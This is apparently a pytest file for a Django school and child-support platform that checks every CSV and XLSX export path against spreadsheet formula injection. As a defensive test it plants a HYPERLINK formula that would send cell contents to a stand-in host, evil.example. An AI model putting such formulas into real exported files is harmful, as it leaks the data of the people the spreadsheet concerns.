"""Every spreadsheet the product writes is inert (issue 14 point 3, ADR 0130).

A world whose school, district and child names are ``=HYPERLINK(...)`` is exported through
every export endpoint (found in the URL resolver: a route that names a ``.csv``/``.xlsx`` or a
``<fmt>``, and the pages that answer ``?format=csv``) and through the CLI. No CSV cell and no
XLSX cell — headers included — may be read as a formula: no ``<f>`` element, no text cell
starting with ``= + - @``, tab or CR. A query parameter that reaches a header cell
(``table=dim:…`` of the indicator export) is planted too. The planted text must arrive (else the
walk proves nothing).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.urls.resolvers import LocalePrefixPattern
from openpyxl import load_workbook

from keleshek.core.spreadsheets import FORMULA_PREFIXES, neutralise
from keleshek.intake import registries

pytestmark = pytest.mark.django_db

PLANT = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?")
Y = 2025


# --- what an inert spreadsheet is ---------------------------------------------------------


def _live(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_PREFIXES and not PLAIN_NUMBER.fullmatch(text)


def formula_cells(body: bytes) -> list[str]:
    """Cells a spreadsheet would read as a formula (empty for an inert file)."""
    bad: list[str] = []
    if body.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            for name in z.namelist():
                sheet = name.startswith("xl/worksheets/") and name.endswith(".xml")
                if sheet and re.search(rb"<(?:\w+:)?f[\s>/]", z.read(name)):
                    bad.append(f"{name}: an <f> element")
        wb = load_workbook(io.BytesIO(body))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "f" or (isinstance(c.value, str) and _live(c.value)):
                        bad.append(f"{ws.title}!{c.coordinate}: {c.value!r}")
        return bad
    text = body.decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    for i, row in enumerate(csv.reader(io.StringIO(text), delimiter=delimiter)):
        bad.extend(f"line {i + 1}: {cell!r}" for cell in row if _live(cell))
    return bad


def _body(resp: Any) -> bytes:
    if getattr(resp, "streaming", False):
        data = b"".join(resp.streaming_content)
        # close the file without ending the test's database connection (request_finished does)
        from django.core.signals import request_finished
        from django.db import close_old_connections

        request_finished.disconnect(close_old_connections)
        try:
            resp.close()
        finally:
            request_finished.connect(close_old_connections)
        return data
    return bytes(resp.content)


# --- which endpoints write spreadsheets ---------------------------------------------------


def _walk(patterns: list[Any], prefix: str = "") -> Iterator[tuple[str, URLPattern]]:
    for p in patterns:
        part = "en/" if isinstance(p.pattern, LocalePrefixPattern) else str(p.pattern)
        if isinstance(p, URLResolver):
            yield from _walk(p.url_patterns, prefix + part)
        else:
            yield prefix + part, p


SPREADSHEET_ROUTE = re.compile(r"\.csv|\.xlsx|csv\|xlsx|<str:fmt>|\(\?P<fmt>")
# Pages that answer a spreadsheet on ``?format=csv`` (not visible in the route).
FORMAT_PARAMETER_VIEWS = {"keleshek.support.views.coverage"}


def spreadsheet_routes() -> set[str]:
    found = set()
    for route, p in _walk(get_resolver().url_patterns):
        view = f"{p.callback.__module__}.{getattr(p.callback, '__name__', '')}"
        if SPREADSHEET_ROUTE.search(route) or view in FORMAT_PARAMETER_VIEWS:
            found.add(route)
    return found


# --- the world ------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _media(settings, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture(autouse=True)
def _progress_on_the_test_connection(monkeypatch):  # type: ignore[no-untyped-def]
    from keleshek.jobs import services

    monkeypatch.setattr(services, "_progress_alias", lambda: "default")


@pytest.fixture
def world(db: None) -> dict[str, Any]:
    from keleshek.accounts.models import User
    from keleshek.indicators.services import refresh_indicators
    from keleshek.indicators.tests import factories as ind
    from keleshek.intake.tests.factories import bin_for
    from keleshek.support import services as support
    from keleshek.support.tests import factories as sup

    r = ind.region(Y)
    r.a.name_ru = PLANT
    r.a.name_en = PLANT
    r.a.bin = bin_for(77)  # an exported row needs its key (ADR 0127)
    r.a.save()
    r.d1.name_ru = PLANT
    r.d1.save()
    for g in range(0, 12):
        ind.enrol(r.a, Y, g, 60, 50)
    for age in range(0, 19):
        ind.population(r.town, Y, age, 60, 60)
    reg = sup.region()
    sup.programmes(reg)
    child = sup.pupil(reg.village_school, 3, last_name=PLANT, first_name="-2+3")
    support.category_add(pupil=child, category="asp", valid_from=dt.date(Y, 1, 1))
    # the fund's payment register names the parent (the bank file)
    from keleshek.core.ids import make_iin
    from keleshek.support.tests.test_fund import IBAN

    applicant = sup.pupil(reg.village_school, 6)
    support.category_add(pupil=applicant, category="asp", valid_from=dt.date(Y, 9, 1))
    application = support.application_submit(
        pupil=applicant,
        year=Y,
        category="asp",
        channel="parent",
        parent_name=PLANT,
        parent_iin=make_iin(dt.date(1988, 4, 2), "F", 4321),
        iban=IBAN,
        documents=["application", "birth_certificate", "parent_id", "asp_certificate"],
        consent=True,
        submitted_on=dt.date(Y, 9, 5),
    )
    support.application_decide(
        application=application, approve=True, decided_on=dt.date(Y, 9, 15), minutes="5", user=None
    )
    refresh_indicators()
    from keleshek.core import audit

    audit.record("update", object_type="institutions.institution", summary=PLANT)
    admin = User.objects.create_user("sheet-admin", password="x-pass-12345", role="regional_admin")
    return {"ind": r, "admin": admin}


def test_every_export_endpoint_writes_inert_cells(
    world: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    c = Client()
    c.force_login(world["admin"])
    names = registries.names()
    oblast = world["ind"].oblast.kato
    header_param = "dim:" + PLANT
    # an import with a refused planted row, for the error workbook
    bad = f"bin,year,grade,sex,count\n{world['ind'].a.bin or ''},{Y},1,{PLANT},30\n"
    with django_capture_on_commit_callbacks(execute=True):
        c.post(
            "/en/intake/upload/",
            {"registry": "enrolment", "file": SimpleUploadedFile("e.csv", bad.encode())},
        )
    from keleshek.intake.models import ImportRun

    run = ImportRun.objects.get(file_name="e.csv")
    from keleshek.support.models import PaymentRegister

    register = PaymentRegister.objects.get()
    walk: dict[str, list[tuple[str, bool]]] = {
        "en/intake/export/<str:registry>.<str:fmt>": [
            (f"/en/intake/export/{n}.{fmt}", n in ("institutions", "territory", "pupils"))
            for n in names
            for fmt in ("csv", "xlsx")
        ],
        "en/intake/template/<str:registry>.<str:fmt>": [
            (f"/en/intake/template/{n}.{fmt}", False) for n in names for fmt in ("csv", "xlsx")
        ],
        "en/intake/runs/<int:pk>/errors.xlsx": [(f"/en/intake/runs/{run.pk}/errors.xlsx", True)],
        "en/staff/^export/(?P<code>[-\\w]+)/(?P<kato>\\d{9})\\.(?P<fmt>csv|xlsx)$": [
            (f"/en/staff/export/{code}/{oblast}.{fmt}?year={Y}{extra}", reached)
            for code in ("places_deficit", "pupils")
            for fmt in ("csv", "xlsx")
            for extra, reached in (("", True), (f"&table={header_param}", True))
        ],
        "en/support/coverage/": [
            (f"/en/support/coverage/?programme={p}&year={Y}&format=csv", p == "meals")
            for p in ("meals", "uniform", "rural-transport", "city-transit")
        ],
        "en/open-data/<slug:slug>.<str:fmt>": [
            (f"/en/open-data/{slug}.csv?year={Y}", slug == "schools") for slug in _open_data_slugs()
        ],
        "en/reports/briefing.<str:fmt>": [(f"/en/reports/briefing.xlsx?year={Y}", True)],
        "en/audit/export.<str:fmt>": [(f"/en/audit/export.{fmt}", True) for fmt in ("csv", "xlsx")],
        "en/support/registers/<int:pk>/export.<str:fmt>": [
            (f"/en/support/registers/{register.pk}/export.{fmt}", True) for fmt in ("csv", "xlsx")
        ],
    }
    assert spreadsheet_routes() <= set(walk), "an export endpoint this test does not walk"
    failures: list[str] = []
    walked = 0
    for urls in walk.values():
        for url, reached in urls:
            resp = c.get(url)
            if resp.status_code != 200:
                failures.append(f"{url}: {resp.status_code}")
                continue
            body = _body(resp)
            walked += 1
            failures.extend(f"{url}: {cell}" for cell in formula_cells(body))
            if reached and not _carries_plant(body):
                failures.append(f"{url}: the planted name did not arrive")
    assert failures == []
    assert walked >= 4 * len(names) + 10


def _open_data_slugs() -> list[str]:
    from keleshek.portal.opendata import DATASETS

    return list(DATASETS)


def _carries_plant(body: bytes) -> bool:
    marker = "HYPERLINK"
    if body.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            return any(marker.encode() in z.read(n) for n in z.namelist())
    return marker in body.decode("utf-8-sig")


def test_the_cli_export_is_inert(world: dict[str, Any], tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        for name in ("institutions", "pupils"):
            dest = tmp_path / f"{name}.{fmt}"
            call_command("export", name, str(dest))
            body = dest.read_bytes()
            assert formula_cells(body) == []
            assert _carries_plant(body)


def test_neutralised_text_reads_back_as_written() -> None:
    from keleshek.core.spreadsheets import csv_bytes, unneutralise, xlsx_bytes

    values = [PLANT, "+7 701", "-2+3", "@SUM(A1)", "\tx", "\rx", "-12", "+7.5", "-1e-05", "ok"]
    assert [unneutralise(neutralise(v)) for v in values] == values
    assert formula_cells(csv_bytes(values, [values])) == []
    assert formula_cells(xlsx_bytes(values, [values, [-5, 1.5, None]])) == []
    # the file without the writer would not be inert: the checker sees live cells
    assert formula_cells(f"{PLANT};x\n".encode()) != []


def test_no_spreadsheet_is_written_outside_the_one_writer() -> None:
    """``csv.writer`` and openpyxl ``Workbook`` only in ``core/spreadsheets.py``; the
    importer's scratch files (never shown to anyone) are the named exceptions."""
    src = Path(__file__).resolve().parents[1] / "src" / "keleshek"
    allowed = {
        "core/spreadsheets.py",
        "intake/pipeline.py",  # refused rows kept for the error workbook, read back only
        "intake/pgfast.py",  # the COPY file for PostgreSQL's fast path
        "intake/classifier.py",  # the bureau's KATO sheet turned into the registry's columns
    }
    pattern = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(|xlsxwriter")
    offenders = []
    for path in src.rglob("*.py"):
        rel = path.relative_to(src).as_posix()
        if "/tests/" in f"/{rel}" or rel in allowed:
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == []
